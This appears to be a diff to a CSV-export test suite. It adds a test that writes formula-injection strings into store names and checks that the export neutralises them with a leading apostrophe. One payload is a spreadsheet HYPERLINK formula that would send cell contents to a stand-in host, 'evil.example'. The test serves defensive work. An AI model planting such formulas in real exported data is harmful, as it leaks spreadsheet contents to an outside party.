@@ -605,6 +605,48 @@ describe('CSV export', () => {
     t.clock.advance(NOW - t.clock.now().getTime());
     expect(expired.statusCode).toBe(403);
   });
+
+  it('a store name a spreadsheet would run as a formula comes out as text (issue 22 item 2)', async () => {
+    const db = t.database.db;
+    const stores = ['leader@tenpo.example', 'store02@tenpo.example', 'store03@tenpo.example'];
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)', '+1+1'];
+    const before = await db
+      .selectFrom('users')
+      .select(['id', 'store_name'])
+      .where('id', 'in', stores.map(id))
+      .execute();
+    try {
+      for (const [i, email] of stores.entries())
+        await db
+          .updateTable('users')
+          .set({ store_name: names[i] })
+          .where('id', '=', id(email))
+          .execute();
+      const url = await csvOf(
+        '/report/multiple-store/csv',
+        { user_id: stores.map(id).join(','), start_date: '2026-02-01', end_date: '2026-02-28' },
+        agency,
+      );
+      const res = await get(url, agency);
+      expect(res.statusCode).toBe(200);
+      const firstCells = res.rawPayload
+        .subarray(3)
+        .toString('utf8')
+        .split('\r\n')
+        .slice(1, 4)
+        .map((l) => (l.startsWith('"') ? l.slice(0, l.indexOf('",') + 1) : l.split(',')[0]));
+      expect(firstCells.sort()).toEqual(
+        [`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`, "'@SUM(1+1)", "'+1+1"].sort(),
+      );
+    } finally {
+      for (const b of before)
+        await db
+          .updateTable('users')
+          .set({ store_name: b.store_name })
+          .where('id', '=', b.id)
+          .execute();
+    }
+  });
 });
 
 describe('bad input answers 422 in Japanese, never 5xx', () => {
